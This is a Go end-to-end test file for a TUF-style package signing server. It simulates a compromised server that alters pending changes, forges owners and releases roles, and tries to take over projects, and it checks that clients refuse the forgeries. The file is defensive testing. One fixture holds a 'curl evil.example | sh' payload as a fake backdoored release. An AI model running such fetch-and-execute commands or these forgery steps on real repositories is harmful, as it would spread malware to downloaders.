package e2e

// Governance attacks: an attacker who owns the server — its database, its
// blob directory and its online keys — tries to get a change signed or a
// file trusted that the project's owners and maintainers did not sign. Each
// attack must fail closed: nothing is signed, nothing is published, and the
// tool or client says why (DESIGN.md sections 2 and 6).

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/theupdateframework/go-tuf/v2/metadata"

	"hallmark.dev/hallmark/api"
	"hallmark.dev/hallmark/ceremony"
	"hallmark.dev/hallmark/layout"
	"hallmark.dev/hallmark/server"
	"hallmark.dev/hallmark/signing"
	"hallmark.dev/hallmark/tufmeta"
)

// ---------------------------------------------------------------------------
// Helpers.

// govCloneTargets deep-copies targets metadata through its JSON form.
func govCloneTargets(t testing.TB, md *tufmeta.Targets) *tufmeta.Targets {
	t.Helper()
	b, err := tufmeta.Encode(md)
	if err != nil {
		t.Fatal(err)
	}
	c, err := tufmeta.Decode[metadata.TargetsType](b)
	if err != nil {
		t.Fatal(err)
	}
	if c.Signed.Targets == nil {
		c.Signed.Targets = map[string]*metadata.TargetFiles{}
	}
	return c
}

// govForger publishes metadata of one shard the way an attacker holding the
// server's data directory and online secret can: it writes role files into
// the blob directory and signs snapshot and timestamp with the shard's real
// online keys. The server's own database is left alone.
type govForger struct {
	t      testing.TB
	srv    *Server
	shard  string
	secret []byte
	next   map[string]int64 // roles written since the last snapshot, by name
}

func newGovForger(t testing.TB, srv *Server, project string) *govForger {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(srv.Data, "online.secret"))
	if err != nil {
		t.Fatal(err)
	}
	secret, err := hex.DecodeString(strings.TrimSpace(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	return &govForger{t: t, srv: srv, shard: layout.ShardOf(project, fetchTrust(t, srv).Shards), secret: secret, next: map[string]int64{}}
}

// onlineKey derives the shard's online key of a role, as the server does.
func (f *govForger) onlineKey(role string) *signing.Key {
	f.t.Helper()
	k, err := signing.DeriveOnline(f.secret, f.shard, role)
	if err != nil {
		f.t.Fatal(err)
	}
	return k
}

func (f *govForger) path(file string) string {
	return f.srv.BlobPath(layout.MetadataBlobPath(f.shard, file))
}

func (f *govForger) read(file string) []byte {
	f.t.Helper()
	b, err := os.ReadFile(f.path(file))
	if err != nil {
		f.t.Fatal(err)
	}
	return b
}

func (f *govForger) write(path string, data []byte) {
	f.t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		f.t.Fatal(err)
	}
}

func (f *govForger) timestamp() *tufmeta.Timestamp {
	f.t.Helper()
	ts, err := tufmeta.Decode[metadata.TimestampType](f.read("timestamp.json"))
	if err != nil {
		f.t.Fatal(err)
	}
	return ts
}

func (f *govForger) snapshot() *tufmeta.Snapshot {
	f.t.Helper()
	v := f.timestamp().Signed.Meta["snapshot.json"].Version
	snap, err := tufmeta.Decode[metadata.SnapshotType](f.read(layout.MetadataFile(layout.RoleSnapshot, v)))
	if err != nil {
		f.t.Fatal(err)
	}
	return snap
}

// role returns a copy of the served version of a targets role (the version
// the current snapshot names, or one written since).
func (f *govForger) role(name string) *tufmeta.Targets {
	f.t.Helper()
	v, ok := f.next[name]
	if !ok {
		mf := f.snapshot().Signed.Meta[name+".json"]
		if mf == nil {
			f.t.Fatalf("the snapshot of shard %s lists no role %s", f.shard, name)
		}
		v = mf.Version
	}
	md, err := tufmeta.Decode[metadata.TargetsType](f.read(layout.MetadataFile(name, v)))
	if err != nil {
		f.t.Fatal(err)
	}
	return govCloneTargets(f.t, md)
}

// put signs a role with keys (dropping any signature it had) and serves it
// under its version; the next publish lists it in the snapshot.
func (f *govForger) put(name string, md *tufmeta.Targets, keys ...*signing.Key) {
	f.t.Helper()
	md.Signatures = nil
	if err := tufmeta.Sign(md, keys...); err != nil {
		f.t.Fatal(err)
	}
	data, err := tufmeta.Encode(md)
	if err != nil {
		f.t.Fatal(err)
	}
	f.write(f.path(layout.MetadataFile(name, md.Signed.Version)), data)
	f.next[name] = md.Signed.Version
}

// putTarget serves a target file where clients fetch it.
func (f *govForger) putTarget(path string, data []byte) {
	f.t.Helper()
	f.write(f.srv.BlobPath("targets/"+layout.TargetBlobPath(path, hexDigest(data))), data)
}

// publish serves a new snapshot listing the roles put since the last one,
// and a new timestamp pointing at it, both signed with the online keys.
func (f *govForger) publish() {
	f.t.Helper()
	snap := f.snapshot()
	for name, v := range f.next {
		snap.Signed.Meta[name+".json"] = metadata.MetaFile(v)
	}
	snap.Signed.Version++
	snap.Signed.Expires = layout.DefaultPolicy().ExpiresAt(layout.RoleSnapshot, time.Now())
	snap.Signatures = nil
	if err := tufmeta.Sign(snap, f.onlineKey(layout.RoleSnapshot)); err != nil {
		f.t.Fatal(err)
	}
	snapData, err := tufmeta.Encode(snap)
	if err != nil {
		f.t.Fatal(err)
	}
	f.write(f.path(layout.MetadataFile(layout.RoleSnapshot, snap.Signed.Version)), snapData)
	ts := f.timestamp()
	ts.Signed.Version++
	ts.Signed.Expires = layout.DefaultPolicy().ExpiresAt(layout.RoleTimestamp, time.Now())
	ts.Signed.Meta = map[string]*metadata.MetaFiles{"snapshot.json": {
		Version: snap.Signed.Version, Length: int64(len(snapData)), Hashes: metadata.Hashes{"sha256": govTargetFile(snapData).Hashes["sha256"]},
	}}
	ts.Signatures = nil
	if err := tufmeta.Sign(ts, f.onlineKey(layout.RoleTimestamp)); err != nil {
		f.t.Fatal(err)
	}
	// Nothing here rolls back, so the witness co-signs: what stops the
	// forgery is the delegation chain, which this file tests.
	if refusal := newAttacker(f.t, f.srv).witnessCosign(f.shard, ts, snapData); refusal != "" {
		f.t.Fatalf("the witness refused a forgery that rolls nothing back: %s", refusal)
	}
	tsData, err := tufmeta.Encode(ts)
	if err != nil {
		f.t.Fatal(err)
	}
	f.write(f.path("timestamp.json"), tsData)
	f.next = map[string]int64{}
}

// govEmptyDir fails unless dir holds nothing.
func govEmptyDir(t testing.TB, dir string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 0 {
		t.Fatalf("%s holds %d file(s) after a refused download", dir, len(entries))
	}
}

// govChange is a pending change's stored JSON, decoded for editing.
type govChange struct {
	req      api.ChangeRequest
	owners   *tufmeta.Targets
	releases *tufmeta.Targets
}

func govDecodeChange(t testing.TB, raw []byte) *govChange {
	t.Helper()
	c := &govChange{}
	if err := json.Unmarshal(raw, &c.req); err != nil {
		t.Fatal(err)
	}
	var err error
	if len(c.req.OwnersRole) > 0 {
		if c.owners, err = tufmeta.Decode[metadata.TargetsType](c.req.OwnersRole); err != nil {
			t.Fatal(err)
		}
	}
	if len(c.req.ReleasesRole) > 0 {
		if c.releases, err = tufmeta.Decode[metadata.TargetsType](c.req.ReleasesRole); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func (c *govChange) encode(t testing.TB) []byte {
	t.Helper()
	var err error
	c.req.OwnersRole, c.req.ReleasesRole = nil, nil
	if c.owners != nil {
		if c.req.OwnersRole, err = tufmeta.Encode(c.owners); err != nil {
			t.Fatal(err)
		}
	}
	if c.releases != nil {
		if c.req.ReleasesRole, err = tufmeta.Encode(c.releases); err != nil {
			t.Fatal(err)
		}
	}
	b, err := json.Marshal(c.req)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func govSign(t testing.TB, md *tufmeta.Targets, keys ...*signing.Key) {
	t.Helper()
	if err := tufmeta.Sign(md, keys...); err != nil {
		t.Fatal(err)
	}
}

// ---------------------------------------------------------------------------
// 9. The server alters a pending change before a co-signer fetches it.

func TestAttackGovernanceAlteredPendingChange(t *testing.T) {
	needSQLite(t) // edits the SQLite state file directly
	srv := StartServer(t)
	alice := NewMaintainer(t, srv, "alice")
	bob := NewMaintainer(t, srv, "bob")
	carol := NewMaintainer(t, srv, "carol")
	dave := NewMaintainer(t, srv, "dave") // a downloader
	dir := t.TempDir()
	v1 := []byte("guard 1.0.0")
	govTwoMaintainers(t, alice, bob, "guard", WriteFile(t, dir, "guard-1.0.0.tar.gz", v1))
	bobLine, _ := govPublic(t, bob, "bob")
	carolLine, carolKey := govPublic(t, carol, "carol")
	_, aliceKey := govPublic(t, alice, "alice")
	govMustPublish(t, alice.MustRun("owner", "add", "guard", bobLine, "--yes"))
	id := govPendingID(t, alice.MustRun("project", "threshold", "guard", "--owners", "2", "--yes"), "guard")
	govMustPublish(t, bob.MustRun("approve", "guard", id, "--yes"))

	// Two genuine pending changes by alice, each waiting for bob: a release
	// (R) and a maintainer addition (M).
	v2 := []byte("guard 2.0.0, genuine")
	rel := govPendingID(t, alice.MustRun("release", "upload", "guard", "2.0.0", WriteFile(t, dir, "guard-2.0.0.tar.gz", v2)), "guard")
	r := alice.MustRun("maintainer", "add", "guard", carolLine, "--yes")
	govMustSay(t, "maintainer add", r.Stderr, "(1 of 2 on the role that needs most)")
	add := govPendingID(t, r, "guard")
	pending := bob.MustRun("pending", "guard").Stdout
	govMustSay(t, "bob's pending", pending, rel, add, "add release 2.0.0", "add maintainer key "+carolKey.ShortID()+" (labelled \"carol <carol@example.org>\" by this change)")

	db := govDB(t, srv)
	orig := map[string]govPendingRow{}
	for _, id := range []string{rel, add} {
		row, ok := govPendingRowOf(t, db, id)
		if !ok {
			t.Fatalf("pending change %s is not in the database", id)
		}
		orig[id] = row
	}
	base := govVerified(t, dave, "guard")
	relV, ownV := base.ReleasesRole.Signed.Version, base.OwnersRole.Signed.Version
	published := govPublished(t, srv)
	versions := dave.MustRun("versions", "guard", "--json").Stdout
	evilKey, err := signing.Generate("alice <alice@example.org>") // the attacker's key, with a borrowed label
	if err != nil {
		t.Fatal(err)
	}
	evil := []byte("#!/bin/sh\ncurl evil.example | sh\n")
	const file = "guard/2.0.0/guard-2.0.0.tar.gz"
	onlineNew := newGovForger(t, srv, "guard").onlineKey(ceremony.OnlineNew)
	alteredBy := func(role, key string) string {
		return "the " + role + " carries a signature by key " + key[:8] + " that is not genuine or not entitled: the change was altered after it was signed"
	}

	noMember := "carries no signature of a current"
	declareOwner := func(md *tufmeta.Targets) {
		d, _, err := tufmeta.DeclaredOwners(md)
		if err != nil {
			t.Fatal(err)
		}
		d.Keys[evilKey.ID()] = evilKey.Public().TUF()
		d.KeyIDs = append(d.KeyIDs, evilKey.ID())
		tufmeta.SetDeclaredOwners(md, d)
		tufmeta.SetLabels(md, map[string]string{evilKey.ID(): "bob <bob@example.org>"})
	}
	cases := []struct {
		name   string
		id     string
		mutate func(c *govChange)
		want   string
	}{
		{"release: target hash changed", rel, func(c *govChange) {
			c.releases.Signed.Targets[file] = govTargetFile([]byte(strings.Repeat("x", len(v2)))) // same length
		}, alteredBy("releases role", aliceKey.ID())},
		{"release: target length changed", rel, func(c *govChange) {
			c.releases.Signed.Targets[file].Length++
		}, alteredBy("releases role", aliceKey.ID())},
		{"release: file added", rel, func(c *govChange) {
			c.releases.Signed.Targets["guard/2.0.0/install.sh"] = govTargetFile(evil)
		}, alteredBy("releases role", aliceKey.ID())},
		{"release: expiry pushed out", rel, func(c *govChange) {
			c.releases.Signed.Expires = c.releases.Signed.Expires.Add(24 * time.Hour)
		}, alteredBy("releases role", aliceKey.ID())},
		{"release: version bumped", rel, func(c *govChange) {
			c.releases.Signed.Version++
		}, fmt.Sprintf("it no longer applies: it changes releases version %d, but version %d is published", relV+1, relV)},
		{"release: version lowered", rel, func(c *govChange) {
			c.releases.Signed.Version--
		}, fmt.Sprintf("it no longer applies: it changes releases version %d, but version %d is published", relV-1, relV)},
		{"release: signatures stripped", rel, func(c *govChange) {
			c.releases.Signatures = nil
		}, noMember},
		{"release: re-signed by the attacker", rel, func(c *govChange) {
			c.releases.Signed.Targets[file] = govTargetFile(evil)
			c.releases.Signatures = nil
			govSign(t, c.releases, evilKey)
		}, alteredBy("releases role", evilKey.ID())},
		{"release: attacker signature added", rel, func(c *govChange) {
			govSign(t, c.releases, evilKey)
		}, alteredBy("releases role", evilKey.ID())},
		{"release: attacker made maintainer in the same change", rel, func(c *govChange) {
			owners := govCloneTargets(t, base.OwnersRole)
			owners.Signatures = nil
			owners.Signed.Version++
			d := owners.Signed.Delegations
			d.Keys[evilKey.ID()] = evilKey.Public().TUF()
			d.Roles[0].KeyIDs = append(d.Roles[0].KeyIDs, evilKey.ID())
			govSign(t, owners, evilKey)
			c.owners = owners
		}, alteredBy("owners role", evilKey.ID())},
		{"maintainer addition: key swapped", add, func(c *govChange) {
			d := c.owners.Signed.Delegations
			delete(d.Keys, carolKey.ID())
			d.Keys[evilKey.ID()] = evilKey.Public().TUF()
			d.Roles[0].KeyIDs = slices.DeleteFunc(d.Roles[0].KeyIDs, func(id string) bool { return id == carolKey.ID() })
			d.Roles[0].KeyIDs = append(d.Roles[0].KeyIDs, evilKey.ID())
		}, alteredBy("owners role", aliceKey.ID())},
		{"maintainer addition: releases threshold lowered", add, func(c *govChange) {
			c.owners.Signed.Delegations.Roles[0].Threshold = 1
		}, alteredBy("owners role", aliceKey.ID())},
		{"maintainer addition: label changed", add, func(c *govChange) {
			tufmeta.SetLabels(c.owners, map[string]string{carolKey.ID(): "bob <bob@example.org>"})
		}, alteredBy("owners role", aliceKey.ID())},
		{"maintainer addition: version bumped", add, func(c *govChange) {
			c.owners.Signed.Version++
		}, fmt.Sprintf("it no longer applies: it changes owners role version %d, but version %d is published", ownV+1, ownV)},
		{"maintainer addition: re-signed by the attacker", add, func(c *govChange) {
			c.owners.Signatures = nil
			govSign(t, c.owners, evilKey)
		}, alteredBy("owners role", evilKey.ID())},
		{"maintainer addition: signed by the online key", add, func(c *govChange) {
			c.owners.Signatures = nil
			govSign(t, c.owners, onlineNew)
		}, alteredBy("owners role", onlineNew.ID())},
		// The attacker cannot sign as a current owner, so it declares its
		// key a new owner (with a borrowed label) and signs as that: the
		// change still carries no signature by anyone the verified state
		// trusts, and is refused — it is the server's own proposal.
		{"maintainer addition: attacker declared a new owner", add, func(c *govChange) {
			declareOwner(c.owners)
			c.owners.Signatures = nil
			govSign(t, c.owners, evilKey)
		}, noMember},
		{"release: attacker declared a new owner and maintainer", rel, func(c *govChange) {
			owners := govCloneTargets(t, base.OwnersRole)
			owners.Signatures = nil
			owners.Signed.Version++
			d := owners.Signed.Delegations
			d.Keys[evilKey.ID()] = evilKey.Public().TUF()
			d.Roles[0].KeyIDs = append(d.Roles[0].KeyIDs, evilKey.ID())
			declareOwner(owners)
			govSign(t, owners, evilKey)
			c.owners = owners
			c.releases.Signatures = nil
			govSign(t, c.releases, evilKey)
		}, noMember},
		{"maintainer addition: releases smuggled in", add, func(c *govChange) {
			rel := govDecodeChange(t, orig[rel].Change).releases
			rel.Signed.Targets[file] = govTargetFile(evil)
			rel.Signatures = nil
			govSign(t, rel, evilKey)
			c.releases = rel
		}, alteredBy("releases role", evilKey.ID())},
	}
	check := func(t *testing.T, id, want string, stored []byte) {
		t.Helper()
		r := govFail(t, bob, "refusing to sign pending change "+id+": ", "approve", "guard", id, "--yes")
		govMustSay(t, "approve", r.Stderr, want)
		govMustSay(t, "refused approve", r.Stderr, "nothing was signed")
		r = bob.Run("pending", "guard", "--all")
		govMustSay(t, "pending", r.Stderr, "warning: pending change "+id+" of guard is not offered: ", want)
		if strings.Contains(r.Stdout, id) {
			t.Fatalf("the altered change is offered:\n%s", r.Stdout)
		}
		// The server received no signature, and published nothing.
		if row, ok := govPendingRowOf(t, db, id); !ok || string(row.Change) != string(stored) {
			t.Fatal("the stored change was signed or dropped")
		}
		govSamePublished(t, published, govPublished(t, srv))
		if got := govRun(t, dave, "versions", "guard", "--json").Stdout; got != versions {
			t.Fatalf("versions changed: %s", got)
		}
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			defer govSetChange(t, db, tc.id, orig[tc.id].Change)
			c := govDecodeChange(t, orig[tc.id].Change)
			tc.mutate(c)
			altered := c.encode(t)
			govSetChange(t, db, tc.id, altered)
			check(t, tc.id, tc.want, altered)
		})
	}

	// The proposed project index is a staged file the server serves to
	// co-signers: a swapped one is refused too.
	t.Run("release: staged index swapped", func(t *testing.T) {
		var ixFile string
		for p := range govTree(t, srv.BlobPath("pending/"+rel)) {
			b, _ := os.ReadFile(filepath.Join(srv.BlobPath("pending/"+rel), p))
			if strings.HasPrefix(string(b), `{"project":"guard"`) {
				ixFile = filepath.Join(srv.BlobPath("pending/"+rel), p)
			}
		}
		if ixFile == "" {
			t.Fatal("no staged index found")
		}
		good, _ := os.ReadFile(ixFile)
		defer os.WriteFile(ixFile, good, 0o644)
		if err := os.WriteFile(ixFile, []byte(strings.Replace(string(good), `"2.0.0"`, `"1.0.1"`, 1)), 0o644); err != nil {
			t.Fatal(err)
		}
		check(t, rel, "the server's copy of the proposed project index does not match its signed hash", orig[rel].Change)
	})

	// Another project's pending change, listed under this one.
	t.Run("another project's change relabelled", func(t *testing.T) {
		govRun(t, alice, "project", "create", "other", "--key", "alice")
		bobLine, _ := govPublic(t, bob, "bob")
		govRun(t, alice, "maintainer", "add", "other", bobLine, "--yes")
		oid := govPendingID(t, govRun(t, alice, "project", "threshold", "other", "--releases", "2", "--yes"), "other")
		published = govPublished(t, srv)
		if _, err := db.Exec(`UPDATE pending SET project = 'guard' WHERE id = ?`, oid); err != nil {
			t.Fatal(err)
		}
		row, _ := govPendingRowOf(t, db, oid)
		r := govFail(t, bob, "refusing to sign pending change "+oid, "approve", "guard", oid, "--yes")
		govMustSay(t, "refused approve", r.Stderr, "nothing was signed")
		if after, _ := govPendingRowOf(t, db, oid); string(after.Change) != string(row.Change) {
			t.Fatal("the relabelled change was signed")
		}
		govSamePublished(t, published, govPublished(t, srv))
		if _, err := db.Exec(`DELETE FROM pending WHERE id = ?`, oid); err != nil {
			t.Fatal(err)
		}
	})

	// Control: the genuine changes, restored, are verified and co-signed.
	if t.Failed() {
		return
	}
	govMustPublish(t, bob.MustRun("approve", "guard", rel, "--yes"))
	govMustPublish(t, bob.MustRun("approve", "guard", add, "--yes"))
	govMustGet(t, dave, "guard", map[string][]byte{"guard-2.0.0.tar.gz": v2})
	if v := govShow(t, dave, "guard"); !slices.Contains(govKeyIDs(v.Maintainers), carolKey.ID()) || len(v.Maintainers) != 3 {
		t.Fatalf("maintainers after the genuine addition: %+v", v.Maintainers)
	}
}

// ---------------------------------------------------------------------------
// 10. The server forges a maintainer addition without the owners'
// signatures.

func TestAttackGovernanceForgedOwnersRole(t *testing.T) {
	srv := StartServer(t)
	alice := NewMaintainer(t, srv, "alice")
	carol := NewMaintainer(t, srv, "carol") // trusted the repository before the attack
	dir := t.TempDir()
	genuine := []byte("victim 1.0.0, signed by alice")
	alice.MustRun("project", "create", "victim", "--key", "alice")
	alice.MustRun("release", "upload", "victim", "1.0.0", WriteFile(t, dir, "victim-1.0.0.tar.gz", genuine))
	_, aliceKey := govPublic(t, alice, "alice")
	govMustGet(t, carol, "victim", map[string][]byte{"victim-1.0.0.tar.gz": genuine})
	base := govVerified(t, carol, "victim")

	f := newGovForger(t, srv, "victim")
	evilKey, err := signing.Generate("alice <alice@example.org>")
	if err != nil {
		t.Fatal(err)
	}
	evil := []byte("victim 6.6.6, backdoored")
	const evilFile = "victim-6.6.6.tar.gz"
	evilPath := layout.FilePath("victim", "6.6.6", evilFile)

	// The forged roles: an owners role that adds the attacker's key as a
	// maintainer, and a releases role signed by it, with a new latest
	// release.
	forgeRoles := func(ownersSigner *signing.Key) {
		owners := govCloneTargets(t, base.OwnersRole)
		owners.Signed.Version = f.role("victim").Signed.Version + 1
		d := owners.Signed.Delegations
		d.Keys[evilKey.ID()] = evilKey.Public().TUF()
		d.Roles[0].KeyIDs = append(d.Roles[0].KeyIDs, evilKey.ID())
		tufmeta.SetLabels(owners, map[string]string{evilKey.ID(): evilKey.Label()})
		f.put("victim", owners, ownersSigner)

		rel := govCloneTargets(t, base.ReleasesRole)
		rel.Signed.Version = f.role("victim.releases").Signed.Version + 1
		rel.Signed.Targets[evilPath] = govTargetFile(evil)
		ix := *base.Index
		ix.Releases = append(slices.Clone(ix.Releases), layout.Release{Version: "6.6.6", Files: []layout.FileEntry{{Name: evilFile, SHA256: hexDigest(evil), Length: int64(len(evil))}}})
		ixData, err := ix.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		rel.Signed.Targets[layout.IndexPath("victim")] = govTargetFile(ixData)
		f.put("victim.releases", rel, evilKey)
		f.putTarget(layout.IndexPath("victim"), ixData)
		f.putTarget(evilPath, evil)
		f.publish()
	}
	tr := fetchTrust(t, srv)
	root := fetchInitialRoot(t, srv, tr, f.shard)

	// The real check: with the delegation in new.<shard> untouched, an
	// owners role the delegated owners did not sign is refused, whoever
	// signed it — the attacker's own key or the server's online key.
	for _, signer := range []struct {
		name string
		key  *signing.Key
	}{{"attacker key", evilKey}, {"online key", f.onlineKey(ceremony.OnlineNew)}} {
		t.Run("owners role signed by the "+signer.name+" is refused", func(t *testing.T) {
			forgeRoles(signer.key)
			for _, u := range []*User{carol, NewMaintainer(t, srv, "fresh")} {
				out := t.TempDir()
				r := govFail(t, u, "failed verification", "get", "victim", "-o", out)
				govMustSay(t, "refused get", r.Stderr, "does not verify against your pinned trust")
				govEmptyDir(t, out)
				govFail(t, u, "failed verification", "versions", "victim")
				govFail(t, u, "failed verification", "get", "victim@6.6.6", "-o", out)
				govEmptyDir(t, out)
			}
			g := newGoTUF(t, srv, f.shard, root)
			up := g.refresh()
			if _, err := up.GetTargetInfo(evilPath); err == nil {
				t.Fatal("go-tuf trusts the forged release")
			}
		})
	}

	// For a project not claimed yet, the design admits that the online keys
	// can take it over (DESIGN.md section 2: "until claimed, it is only as
	// safe as the online key"): rewriting the delegation in new.<shard>, the
	// only role the online keys sign that names the project's owners, makes
	// the forged roles verify. The client cannot tell, but says plainly that
	// the project is not claimed, and shows the new owner key (whose label
	// the attacker chose) — not alice's.
	t.Run("unclaimed project taken over through new.shard (admitted by the design)", func(t *testing.T) {
		bin := f.role(layout.NewRole(f.shard))
		tufmeta.SetProjectDelegation(bin, "victim", tufmeta.NewDelegation([]signing.PublicKey{evilKey.Public()}, 1))
		bin.Signed.Version++
		f.put(layout.NewRole(f.shard), bin, f.onlineKey(ceremony.OnlineNew))
		forgeRoles(evilKey)

		govMustGet(t, carol, "victim", map[string][]byte{evilFile: evil})
		show := govRun(t, carol, "project", "show", "victim").Stdout
		govMustSay(t, "project show", show, "not claimed yet: until the repository's admins claim it, the server's online key could take it over",
			"  "+evilKey.Public().ShortID()+"  alice <alice@example.org>")
		if owners, _, _ := strings.Cut(show[strings.Index(show, "owners ("):], "maintainers ("); strings.Contains(owners, aliceKey.ShortID()) {
			t.Fatalf("project show still names alice as an owner:\n%s", show)
		}
		v := govShow(t, carol, "victim")
		if v.Claimed || !slices.Equal(govKeyIDs(v.Owners), govIDs(evilKey.Public())) {
			t.Fatalf("project show --json after the takeover: %+v", v)
		}
		if vs := govVersions(t, carol, "victim"); vs.Claimed {
			t.Fatal("versions --json says the project is claimed")
		}

		// The admins' routine claim must not lock the takeover in: the
		// owner keys in new.<shard> are not the end of alice's own signed
		// chain of owner changes, so victim is listed and left unclaimed.
		admin := NewUser(t, srv)
		admin.MustRun("trust", srv.URL, "--yes")
		before := f.role(layout.ClaimedRole(f.shard)).Signed.Version
		r := admin.MustFail("nothing can be claimed", "admin", "claim", "--all", "--keys", filepath.Join(srv.Data, server.DevKeysDir), "--yes")
		govMustSay(t, "admin claim after the takeover", r.Stderr, "victim: ", "not signed by the owners in force before it")
		if after := f.role(layout.ClaimedRole(f.shard)).Signed.Version; after != before {
			t.Fatalf("claimed.%s went from version %d to %d: the takeover was claimed", f.shard, before, after)
		}
		if v := govShow(t, carol, "victim"); v.Claimed {
			t.Fatal("victim was claimed with the attacker's key")
		}
	})
}

// ---------------------------------------------------------------------------
// 11. Claimed projects: nothing the online keys sign changes them.

func TestAttackGovernanceClaimedProjectOnlineKeys(t *testing.T) {
	srv := StartServer(t)
	alice := NewMaintainer(t, srv, "alice")
	carol := NewMaintainer(t, srv, "carol") // trusted the repository before the attack
	dir := t.TempDir()
	genuine := []byte("fortress 1.0.0, signed by alice")
	const file = "fortress-1.0.0.tar.gz"
	alice.MustRun("project", "create", "fortress", "--key", "alice")
	alice.MustRun("release", "upload", "fortress", "1.0.0", WriteFile(t, dir, file, genuine))
	_, aliceKey := govPublic(t, alice, "alice")
	govMustGet(t, carol, "fortress", map[string][]byte{file: genuine})
	base := govVerified(t, carol, "fortress")
	if base.Claimed {
		t.Fatal("a new project is claimed")
	}

	f := newGovForger(t, srv, "fortress")
	tr := fetchTrust(t, srv)
	g := newGoTUF(t, srv, f.shard, fetchInitialRoot(t, srv, tr, f.shard))
	g.refresh()

	// The admins claim the project with their offline claim key (a
	// development repository keeps it in DATA/dev-keys): claimed.<shard>
	// now delegates it, terminating, to its owners.
	admin := NewUser(t, srv)
	admin.MustRun("trust", srv.URL, "--yes")
	r := admin.MustRun("admin", "claim", "fortress", "--keys", filepath.Join(srv.Data, server.DevKeysDir), "--yes", "-o", filepath.Join(t.TempDir(), "claim.json"))
	govMustSay(t, "admin claim", r.Stderr, "claim fortress: owners alice <alice@example.org> ("+aliceKey.ShortID()+")", "unchanged since the project was created", "(shard "+f.shard+")", "published")
	if bin := f.role(layout.ClaimedRole(f.shard)); bin.Signed.Version < 2 {
		t.Fatalf("claimed.%s is still at version %d", f.shard, bin.Signed.Version)
	} else if d, role, err := tufmeta.TargetsDelegation(bin, "fortress"); err != nil || !role.Terminating || !slices.Equal(d.KeyIDs, []string{aliceKey.ID()}) {
		t.Fatalf("claimed.%s delegates fortress as %+v (%v)", f.shard, role, err)
	}

	v := govShow(t, carol, "fortress")
	if !v.Claimed || !slices.Equal(govKeyIDs(v.Owners), govIDs(aliceKey)) {
		t.Fatalf("after the claim: %+v", v)
	}
	govMustSay(t, "project show", carol.MustRun("project", "show", "fortress").Stdout, "claimed: only its owners and the repository's offline keys can change who signs for it")
	if !govVersions(t, carol, "fortress").Claimed {
		t.Fatal("versions --json: not claimed")
	}
	govMustGet(t, carol, "fortress", map[string][]byte{file: genuine})
	if got := g.download(g.refresh(), "fortress/1.0.0/"+file); string(got) != string(genuine) {
		t.Fatalf("go-tuf: %q", got)
	}

	evilKey, err := signing.Generate("alice <alice@example.org>")
	if err != nil {
		t.Fatal(err)
	}
	evilDel := tufmeta.NewDelegation([]signing.PublicKey{evilKey.Public()}, 1)
	evil := []byte("fortress, backdoored by the server")
	evilIndex := &layout.Index{Project: "fortress", Releases: []layout.Release{
		{Version: "1.0.0", Files: []layout.FileEntry{{Name: file, SHA256: hexDigest(evil), Length: int64(len(evil))}}},
		{Version: "6.6.6", Files: []layout.FileEntry{{Name: "fortress-6.6.6.tar.gz", SHA256: hexDigest(evil), Length: int64(len(evil))}}},
	}}
	evilIndexData, err := evilIndex.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	evilTargets := map[string][]byte{
		"fortress/1.0.0/" + file:               evil,
		"fortress/6.6.6/fortress-6.6.6.tar.gz": evil,
		layout.IndexPath("fortress"):           evilIndexData,
	}
	for p, b := range evilTargets {
		f.putTarget(p, b)
	}
	// fresh is a user who first trusts the repository after the attack.
	users := func() []*User { return []*User{carol, NewMaintainer(t, srv, "fresh")} }

	// The attacker, with the online keys, delegates the project in
	// new.<shard> to its own key — under the project's own role name and
	// under a new role — and signs roles listing malicious files.
	t.Run("new.shard delegates the project to the attacker", func(t *testing.T) {
		bin := f.role(layout.NewRole(f.shard))
		tufmeta.SetProjectDelegation(bin, "fortress", evilDel)
		bin.Signed.Delegations.Keys[evilKey.ID()] = evilKey.Public().TUF()
		bin.Signed.Delegations.Roles = append(bin.Signed.Delegations.Roles, metadata.DelegatedRole{
			Name: "takeover", KeyIDs: []string{evilKey.ID()}, Threshold: 1, Terminating: true, Paths: layout.DelegationPaths("fortress"),
		})
		bin.Signed.Version++
		f.put(layout.NewRole(f.shard), bin, f.onlineKey(ceremony.OnlineNew))
		takeover := metadata.Targets(layout.DefaultPolicy().ExpiresAt("fortress", time.Now()))
		for p, b := range evilTargets {
			takeover.Signed.Targets[p] = govTargetFile(b)
		}
		f.put("takeover", takeover, evilKey)
		f.publish()

		for _, u := range users() {
			govMustGet(t, u, "fortress", map[string][]byte{file: genuine})
			govMustGet(t, u, "fortress@1.0.0", map[string][]byte{file: genuine})
			govFail(t, u, "fortress has no version 6.6.6", "get", "fortress@6.6.6")
			if got := govRun(t, u, "versions", "fortress").Stdout; got != "1.0.0\n" {
				t.Fatalf("versions = %q", got)
			}
			if v := govShow(t, u, "fortress"); !v.Claimed || !slices.Equal(govKeyIDs(v.Owners), govIDs(aliceKey)) {
				t.Fatalf("project show after the attack: %+v", v)
			}
		}
		up := g.refresh()
		if got := g.download(up, "fortress/1.0.0/"+file); string(got) != string(genuine) {
			t.Fatalf("go-tuf downloaded %q", got)
		}
		if got := g.download(up, layout.IndexPath("fortress")); string(got) != string(base.IndexBytes) {
			t.Fatalf("go-tuf downloaded the index %q", got)
		}
		if _, err := up.GetTargetInfo("fortress/6.6.6/fortress-6.6.6.tar.gz"); err == nil {
			t.Fatal("go-tuf found the attacker's release of a claimed project")
		}
	})

	// The attacker replaces the project's own roles with versions signed by
	// its key (valid for the delegation it wrote into new.<shard>): clients
	// follow the claimed delegation, find them unsigned by alice, and
	// refuse — a denial of service the online keys can always cause, never
	// a malicious file.
	t.Run("project roles re-signed by the attacker", func(t *testing.T) {
		owners := f.role("fortress")
		owners.Signed.Version++
		owners.Signed.Delegations.Keys = map[string]*metadata.Key{evilKey.ID(): evilKey.Public().TUF()}
		owners.Signed.Delegations.Roles[0].KeyIDs = []string{evilKey.ID()}
